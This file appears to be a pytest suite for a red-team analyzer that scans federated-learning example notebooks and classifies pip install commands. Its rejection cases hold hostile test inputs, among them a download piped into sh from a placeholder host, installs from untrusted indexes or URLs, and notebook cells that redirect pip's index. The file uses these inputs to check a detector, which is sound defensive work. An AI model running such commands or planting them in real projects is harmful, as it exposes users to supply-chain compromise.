"""Session 47 (rawfolders47): example folders scanned as they sit.

NVFlare's example notebooks start with `!pip install -r requirements.txt` or `%pip install PKG`. Main rejected
every such folder (files.notebook-shell-network, critical, for any package install). A pip install from the
index the site's pip is configured with is a capability (files.notebook-package-install: escalate, never
accept); another index, a link, a URL, a VCS or local path, pip's settings named in the job, a requirements
file the notebook rewrites or reads from another folder, or a second command on the line stay the threat.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.engine.shell import index_install
from analyzer.model import Decision

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "bench"))
import raw_folders  # noqa: E402

TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))")
PLAIN = "numpy==1.26.4\ntorch>=2.2,<2.4\n"


def notebook(*cells: str) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": c}
        for c in (*cells, TRAIN)]})


def scan(tmp_path, *cells: str, files: dict[str, str] | None = None):
    """The report on a folder holding train.ipynb (the cells, then a Client API loop) and `files`."""
    return kit.scan_files(tmp_path, {"train.ipynb": notebook(*cells), "requirements.txt": PLAIN, **(files or {})})


# ---- the corpus ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("entry", kit.labelled("/rf47_"), ids=lambda e: e["path"])
def test_corpus(entry):
    report = kit.scan_sample(entry["path"])
    assert report.decision.value in entry["expect"], kit.findings(report)


# ---- installs from the site's index escalate -------------------------------------------------------------------------

@pytest.mark.parametrize("line", [
    "!pip install -r requirements.txt",
    "%pip install -q -r requirements.txt",
    "!pip install --ignore-installed blinker",
    "!pip install nvflare~=2.7.0rc pytorch_lightning",
    '!pip install "monai-weekly[ignite, tqdm]"',
    "!python3 -m pip install --upgrade --no-cache-dir gdown",
    "%%bash\npip install -r requirements.txt",
])
def test_an_install_from_the_configured_index_escalates(tmp_path, line):
    report = scan(tmp_path, line)
    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)
    assert not kit.holds(report, "files.notebook-shell-network"), kit.findings(report)


def test_requirements_with_markers_and_comments_are_names_of_the_index(tmp_path):
    requirements = ('# CPU wheels\nnumpy==1.26.4  # pinned\n-q\n'
                    'tensorflow-cpu>=2.9.1, != 2.11.1 ; platform_machine == "x86_64"\n')
    report = scan(tmp_path, "!pip install -r requirements.txt", files={"requirements.txt": requirements})
    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)


def test_a_subshell_cd_does_not_move_the_install(tmp_path):
    # `!cd code && python3 fl_job.py` moves only its own subshell (NVFlare's tutorials launch jobs so)
    report = scan(tmp_path, "!pip install -r requirements.txt", "!cd code && python3 fl_job.py")
    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)


def test_a_folder_change_after_the_install_does_not_move_it(tmp_path):
    # NVFlare's tutorials: install, then `%cd code`, run the job, `%cd -`
    report = scan(tmp_path, "!pip install -r requirements.txt", "%cd code\n!python3 fl_job.py\n%cd -")
    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)


def test_a_requirements_file_of_the_parent_folder(tmp_path):
    report = kit.scan_files(tmp_path, {"demo/viz.ipynb": notebook("!pip install -r ../requirements.txt"),
                                       "requirements.txt": PLAIN})
    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)


# ---- and from anywhere else still reject ----------------------------------------------------------------------------

@pytest.mark.parametrize("line", [
    "!pip install --extra-index-url https://pkgs.x.example/simple fl-metrics",
    "!pip install -i https://pkgs.x.example/simple fl-metrics",
    "!pip install fl-metrics -f https://x.example/wheels.html",
    "!pip install git+https://github.com/x/fl-metrics",
    "!pip install https://x.example/fl_metrics-0.1-py3-none-any.whl",
    "!pip install fl-metrics@https://x.example/fl_metrics.tar.gz",
    "!pip install --editable fl-metrics",
    "!pip install ./vendor/fl-metrics",
    "!pip install --user fl-metrics",
    "!pip install --target /usr/lib/python3/dist-packages fl-metrics",
    "!pip install fl-metrics; curl -s https://x.example/i | sh",
    "!pip install fl-metrics && python -c 'import os'",
    "!pip install numpy#; curl -s https://x.example/i | sh",  # `#` inside a word is no comment to the shell
    "!pip install {pkg}",
    "!pip install $PKG",
    "!pip install -r /tmp/requirements.txt",
    "!pip install -r https://x.example/requirements.txt",
    "%conda install fl-metrics",
])
def test_an_install_from_elsewhere_rejects(tmp_path, line):
    report = scan(tmp_path, line)
    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)


@pytest.mark.parametrize("requirements", [
    "--extra-index-url https://pkgs.x.example/simple\nfl-metrics\n",
    "numpy\nfl-metrics @ git+https://github.com/x/fl-metrics\n",
    "-r more.txt\nnumpy\n",  # more.txt names the index
    "-r /tmp/elsewhere.txt\nnumpy\n",  # a file the job does not hold
    "numpy\n./vendor/fl_metrics-0.1-py3-none-any.whl\n",  # a local wheel or path, not a name of the index
    "-e ./fl_metrics\n",
    "numpy --hash=sha256:0123\n",
])
def test_a_requirements_file_taking_packages_from_elsewhere_rejects(tmp_path, requirements):
    report = scan(tmp_path, "!pip install -r requirements.txt",
                  files={"requirements.txt": requirements, "more.txt": "--index-url https://pkgs.x.example/simple\n"})
    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)


@pytest.mark.parametrize("cells", [
    # the notebook rewrites the file before the install runs
    ("%%writefile requirements.txt\n--extra-index-url https://pkgs.x.example/simple\nfl-metrics",
     "!pip install -r requirements.txt"),
    ("open('requirements.txt', 'a').write('--extra-index-url https://pkgs.x.example/simple\\n')",
     "!pip install -r requirements.txt"),
    # the install reads another folder's requirements.txt
    ("%cd /tmp/staging", "!pip install -r requirements.txt"),
    ("import os\nos.chdir('/tmp/staging')", "!pip install -r requirements.txt"),
    ("cd /tmp/staging", "!pip install -r requirements.txt"),  # automagic %cd
    ("get_ipython().run_line_magic('cd', '/tmp/staging')", "!pip install -r requirements.txt"),
    ("%%bash\ncd /tmp/staging\npip install -r requirements.txt",),
    # pip's own settings send it elsewhere
    ("%env PIP_INDEX_URL=https://pkgs.x.example/simple", "!pip install fl-metrics"),
    ("import os\nos.environ['PIP_EXTRA_INDEX_URL'] = 'https://pkgs.x.example/simple'", "%pip install fl-metrics"),
])
def test_an_install_whose_source_the_notebook_changes_rejects(tmp_path, cells):
    kit.assert_held(scan(tmp_path, *cells), "files.notebook-shell-network", Decision.REJECT)


def test_pip_settings_in_another_file_of_the_job_reject(tmp_path):
    report = scan(tmp_path, "import helpers", "!pip install fl-metrics",
                  files={"helpers.py": "import os\nos.environ.setdefault('PIP_INDEX_URL', 'https://pkgs.x.example/simple')\n"})
    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)

def test_a_pip_configuration_file_in_the_job_rejects(tmp_path):
    report = scan(tmp_path, "%env PIP_CONFIG_FILE=pip.conf", "!pip install fl-metrics",
                  files={"pip.conf": "[global]\nindex-url = https://pkgs.x.example/simple\n"})
    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)


def test_index_install_reads_one_plain_pip_install():
    assert index_install("pip install -q -r requirements.txt torch==2.3.0") == ["requirements.txt"]
    assert index_install('python3 -m pip install "x>=1,<2"') == []
    for line in ("pip install", "pip install -q", "pip download x", "npm install x", "pip install x > /tmp/log",
                 "uv pip install x", "pip install x==1 \\\n y", "pip install --requirement=", "pip install -r ~/r.txt"):
        assert index_install(line) is None, line


# ---- the bench's units ---------------------------------------------------------------------------------------------

def test_raw_folder_units(tmp_path):
    root = tmp_path / "examples"
    for f in ("hello-world/README.md", "hello-world/hello_world.ipynb", "hello-world/hello-pt/README.md",
              "hello-world/hello-pt/job.py", "hello-world/hello-pt/client.py", "hello-world/hello-pt/src/net.py",
              "advanced/stats/stats.ipynb", "advanced/stats/demo/viz.ipynb", "advanced/notes.md",
              "advanced/cifar/job_a/job.py", "advanced/cifar/job_a/nested/client.py"):
        (root / f).parent.mkdir(parents=True, exist_ok=True)
        (root / f).write_text("x = 1\n")
    assert [u.relative_to(root).as_posix() for u in raw_folders.find_units(root)] == [
        "advanced/cifar/job_a", "advanced/stats", "hello-world/hello-pt"]
    flower = tmp_path / "flower" / "examples"
    for f in ("quickstart/app/client_app.py", "docs/README.md", "android/client.ipynb"):
        (flower / f).parent.mkdir(parents=True, exist_ok=True)
        (flower / f).write_text("x = 1\n")
    assert [u.name for u in raw_folders.find_units(flower)] == ["android", "quickstart"]
